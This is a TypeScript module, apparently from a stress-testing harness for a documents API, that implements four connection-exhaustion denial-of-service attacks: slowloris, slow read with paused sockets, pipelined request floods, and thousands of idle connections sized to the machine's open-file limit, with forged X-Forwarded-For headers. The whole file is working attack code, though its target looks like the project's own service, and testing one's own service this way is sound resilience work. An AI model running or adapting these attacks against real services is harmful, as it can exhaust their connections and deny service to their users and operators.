// Connections that are held by doing as little as possible on each.
import { readFileSync } from 'node:fs';
import { documentView, planId } from '../requests.ts';
import { attackersAddress } from './attack.ts';
import type { Attack, Target } from './attack.ts';
import { closed, openConnection, openMany, wait } from './raw-connections.ts';

const head = (target: Target, start: string): string =>
  `${start} HTTP/1.1\r\nHost: ${target.host}\r\nX-Forwarded-For: ${attackersAddress}\r\nAuthorization: Bearer ${target.token}\r\n`;

const slowOnes = { full: 1_000, short: 100 } as const;

export const slowloris: Attack = {
  name: 'slowloris',
  says: (size) => `${slowOnes[size]} requests, a byte of a header or of a body each second`,
  async run(target, count, stop) {
    const sockets = await openMany(slowOnes[target.size], () => openConnection(target, count, stop), stop);
    const post = head(target, `POST /v1/documents/sync`);
    const withBody = `${post}Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`;
    sockets.forEach((socket, at) => socket.write(at % 2 === 0 ? head(target, `GET ${documentView.path}`) : withBody));
    while (!stop.aborted) {
      await wait(1_000, stop);
      for (const socket of sockets) if (socket.writable) socket.write('a');
    }
    for (const socket of sockets) socket.destroy();
  },
};

const deaf = { full: 200, short: 50 } as const;
// As many as one connection may have waiting.
const askedOnEach = 10;

export const slowRead: Attack = {
  name: 'slow read',
  says: (size) => `${deaf[size]} connections that ask ${askedOnEach} times each, and read nothing`,
  async run(target, count, stop) {
    const open = async () => {
      const socket = await openConnection(target, count, stop);
      socket.pause();
      return socket;
    };
    const sockets = await openMany(deaf[target.size], open, stop);
    const ask = `${head(target, `GET /v1/documents/${planId}/attachments/att_capmodel6y2`)}\r\n`;
    for (const socket of sockets) {
      if (socket.writable) socket.write(ask.repeat(askedOnEach), () => count('asked'));
    }
    await wait(3_600_000, stop);
    for (const socket of sockets) socket.destroy();
  },
};

export const pipelines: Attack = {
  name: 'pipelines',
  says: (size) =>
    `${piped[size]} at once, signed in: ${pipedOnEach} requests on a connection without waiting for answers`,
  async run(target, count, stop) {
    const ask = `${head(target, `GET ${documentView.path}`)}\r\n`.repeat(pipedOnEach);
    const attacker = async (): Promise<void> => {
      while (!stop.aborted) {
        const socket = await openConnection(target, count, stop);
        const end = (): void => void socket.destroy();
        stop.addEventListener('abort', end);
        if (socket.writable) socket.write(ask);
        await closed(socket);
        stop.removeEventListener('abort', end);
      }
    };
    await Promise.all(Array.from({ length: piped[target.size] }, attacker));
  },
};

const piped = { full: 5, short: 2 } as const;
const pipedOnEach = 200;

// Beside them the process has files, backends and the ones that are served.
const spareFiles = 2_000;

/** As many as were asked for, and no more than this machine lets one process have. */
function connectionsPossible(): number {
  const [, soft] = /^Max open files\s+(\d+)/m.exec(readFileSync('/proc/self/limits', 'utf8')) ?? [];
  return Math.max(0, Math.min(10_000, Number(soft ?? 1_024) - spareFiles));
}

const idleOnes = (size: Target['size']): number => (size === 'full' ? connectionsPossible() : 1_000);

export const idleConnections: Attack = {
  name: 'idle connections',
  says: (size) => `${idleOnes(size)} connections: half of them silent, half kept after one request`,
  async run(target, count, stop) {
    const sockets = await openMany(idleOnes(target.size), () => openConnection(target, count, stop), stop);
    count(`open: ${sockets.filter(({ destroyed }) => !destroyed).length}`);
    sockets.forEach((socket, at) => {
      if (at % 2 === 0 && socket.writable) socket.write('GET /livez HTTP/1.1\r\nHost: a\r\n\r\n');
    });
    await wait(3_600_000, stop);
    for (const socket of sockets) socket.destroy();
  },
};
